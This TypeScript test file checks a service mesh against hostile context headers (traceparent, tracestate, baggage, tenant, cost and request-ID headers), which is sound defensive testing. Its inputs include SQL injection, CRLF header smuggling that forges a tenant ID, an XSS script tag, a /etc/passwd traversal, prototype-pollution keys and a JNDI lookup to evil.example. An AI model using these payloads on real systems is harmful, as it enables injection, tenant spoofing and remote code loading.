// Headers that carry context, on a request that is valid otherwise: the task is taken and run whatever they say, and what is
// sent on is what the mesh itself would write.
import { randomUUID } from 'node:crypto';
import { expect } from 'vitest';
import { newAttacker } from '../attacker.ts';
import { endOf, sentOnFor } from '../far-side.ts';
import { type Channel, CLAIMED, type HostileInput, SECRET } from '../input.ts';
import { postTask } from '../rest-call.ts';

/** Each input has a trace of its own, whose id stands here in its headers. */
const TRACE = '0af7651916cd43dd8448eb211c80319c';
const PARENT = 'b7ad6b7169203331';
const VALID = `traceparent: 00-${TRACE}-${PARENT}-01`;

/** A traceparent that the mesh may write: its trace id, its flags. */
const OWN = /^00-(?!0{32})([0-9a-f]{32})-(?!0{16}|b7ad6b7169203331)[0-9a-f]{16}-(0[0-3])$/;
const OURS_IN_HEADERS = /^(traceparent|tracestate|baggage|b3|x-(mcp|b3|request|trace)-.*)$/;
/** The trace went on, or a new one was begun; in either case under a valid traceparent of the mesh's own. */
const CONTINUED = 'continued';
const FRESH = 'fresh';
/** No such attribute went along. */
const NONE = 'none';
const PLAIN_ID = expect.stringMatching(/^[\w.:-]{1,128}$/);

/** A task with these headers; answers what came back, and what was sent on for it. */
async function taskWith(headers: string[]) {
  const attacker = newAttacker();
  const taskId = randomUUID();
  const given = taskId.replaceAll('-', '');
  const body = JSON.stringify({ taskId, prompt: `${SECRET} ${taskId}` });
  const {
    status,
    text,
    headers: answered,
  } = await postTask(
    body,
    ['Content-Type: application/json', ...headers.map((header) => header.replaceAll(TRACE, given))],
    attacker,
  );
  if (status !== 202) return { status, text };
  const { status: end } = await endOf(taskId, attacker);
  const { attributes, tenantId, headerNames } = await sentOnFor(taskId);
  const [, traceId, flags] = OWN.exec(attributes.traceparent ?? '') ?? [];
  return {
    text,
    end,
    requestId: answered['x-request-id'],
    sampled: Number(flags) % 2 === 1,
    trace: traceId && (traceId === given ? CONTINUED : FRESH),
    tracestate: attributes.tracestate ?? NONE,
    baggage: attributes.baggage ?? NONE,
    tenant: new URLSearchParams(attributes['x-mcp-context']).get('x-mcp-tenant-id') === attacker.tenantId,
    isItsOwnTenant: tenantId === attacker.tenantId,
    leaked: headerNames.filter((name) => OURS_IN_HEADERS.test(name)),
  };
}

const always = { end: 'done', isItsOwnTenant: true, tenant: true, leaked: [], requestId: PLAIN_ID };

const input = (name: string, headers: string[], sentOn: Record<string, unknown>): HostileInput => ({
  name,
  send: () => taskWith(headers),
  answer: { ...always, ...sentOn },
});

const traceparents: [string, string][] = [
  ['that is empty', ''],
  ['that is noise', 'noise'],
  ['of version ff', `ff-${TRACE}-${PARENT}-01`],
  ['with a trace id of zeros', `00-${'0'.repeat(32)}-${PARENT}-01`],
  ['with a parent id of zeros', `00-${TRACE}-${'0'.repeat(16)}-01`],
  ['in upper case', `00-${TRACE.toUpperCase()}-${PARENT}-01`],
  ['that is too short', `00-${TRACE.slice(1)}-${PARENT}-01`],
  ['that is too long', `00-${TRACE}-${PARENT}-01-more`],
  ['whose flags are no hex', `00-${TRACE}-${PARENT}-zz`],
  ['that is not ASCII', `00-${TRACE}-${PARENT}-0é`],
  ['of 8,000 characters', `00-${TRACE}-${PARENT}-01${'0'.repeat(8_000)}`],
  ['with an SQL text', `00-'; DROP TABLE tasks; --`],
  ['with a percent-encoded line break', `00-${TRACE}-${PARENT}-01%0d%0aX-MCP-Tenant-ID: ${CLAIMED}`],
];

const traceStates: [what: string, value: string, sentOn?: string][] = [
  ['that is no list', '====='],
  ['with a key in upper case', 'VENDOR=1'],
  ['with a value of 300 characters', `vendor=${'v'.repeat(300)}`],
  ['with the same key twice', 'vendor=1,vendor=2', 'vendor=1'],
  ['of 33 members', Array.from({ length: 33 }, (_, i) => `v${i}=1`).join(',')],
  ['that forges our own member', `mcp=cost:999999.99`],
  ['whose member of ours names a tenant', `mcp=tenant:${CLAIMED}`],
];

const baggages: [what: string, value: string, sentOn?: string][] = [
  ['that names a tenant', `tenant.id=${CLAIMED},x-mcp-tenant-id=${CLAIMED}`],
  ['that is no list', '=;=,,;;'],
  ['with a broken escape', 'mesh.experiment=%zz', 'mesh.experiment=%25zz'],
  [
    'with a line break in an escape',
    'mesh.experiment=a%0d%0aX-Evil:%201',
    'mesh.experiment=a%0D%0AX-Evil%3A%201',
  ],
  ['with a NUL in an escape', 'mesh.synthetic=%00', 'mesh.synthetic=%00'],
  ['of 10,000 characters', `mesh.experiment=${'b'.repeat(10_000)}`],
  ['of 200 entries', Array.from({ length: 200 }, (_, i) => `k${i}=${SECRET}`).join(',')],
  ['that pollutes a prototype', '__proto__=1,constructor=1,mesh.synthetic=true', 'mesh.synthetic=true'],
];

const identities: [string, string[]][] = [
  ['X-MCP-Tenant-ID', [`X-MCP-Tenant-ID: ${CLAIMED}`]],
  ['X-MCP-Tenant-ID twice', [`X-MCP-Tenant-ID: ${CLAIMED}`, `X-MCP-Tenant-ID: ${CLAIMED}-2`]],
  ['X-MCP-Tenant-ID of 8,000 characters', [`X-MCP-Tenant-ID: ${CLAIMED.repeat(800)}`]],
  ['X-MCP-User-ID and X-MCP-Session-ID', [`X-MCP-User-ID: ${CLAIMED}`, `X-MCP-Session-ID: ${CLAIMED}`]],
  ['X-MCP-Cost-Limit of everything', ['X-MCP-Cost-Limit: 999999999.999999']],
  ['X-MCP-Cost-Limit that is no number', ['X-MCP-Cost-Limit: NaN']],
];

const b3: [string, string[]][] = [
  ['X-B3-Sampled: 1 without the scope for it', ['X-B3-Sampled: 1', `traceparent: 00-${TRACE}-${PARENT}-00`]],
  ['X-B3-Sampled: 1 twice', ['X-B3-Sampled: 1', 'X-B3-Sampled: 1', `traceparent: 00-${TRACE}-${PARENT}-00`]],
  ['X-B3-Sampled: yes please', ['X-B3-Sampled: yes please', `traceparent: 00-${TRACE}-${PARENT}-00`]],
];

const requestIds: [string, string][] = [
  ['with a percent-encoded line break', `a%0d%0aX-MCP-Tenant-ID:%20${CLAIMED}`],
  ['with quotes and braces for a log', `a","level":60,"msg":"${CLAIMED}`],
  ['of 129 characters', 'a'.repeat(129)],
  ['that is not ASCII', 'né'],
  ['that is a script', '<script>alert(1)</script>'],
  ['that is a path', '../../../etc/passwd'],
  ['that looks up a name', ['$', '{jndi:ldap://evil.example/a}'].join('')],
];

export const httpHeaders: Channel = {
  name: 'HTTP headers that carry context',
  inputs: [
    ...traceparents.map(([what, value]) =>
      input(`a traceparent ${what}`, [`traceparent: ${value}`], { trace: FRESH }),
    ),
    input('two traceparents', [VALID, `traceparent: 00-${'1'.repeat(32)}-${PARENT}-01`], { trace: FRESH }),
    ...traceStates.map(([what, value, tracestate = NONE]) =>
      input(`a tracestate ${what}`, [VALID, `tracestate: ${value}`], { trace: CONTINUED, tracestate }),
    ),
    input('a tracestate without a traceparent', ['tracestate: vendor=1'], {
      trace: FRESH,
      tracestate: NONE,
    }),
    ...baggages.map(([what, value, baggage = NONE]) =>
      input(`baggage ${what}`, [VALID, `baggage: ${value}`], { trace: CONTINUED, baggage }),
    ),
    ...identities.map(([what, headers]) => input(what, [VALID, ...headers], { trace: CONTINUED })),
    ...b3.map(([what, headers]) => input(what, headers, { sampled: false })),
    ...requestIds.map(([what, value]) =>
      input(`an X-Request-ID ${what}`, [`X-Request-ID: ${value}`], {
        requestId: expect.not.stringContaining(value),
      }),
    ),
  ],
};
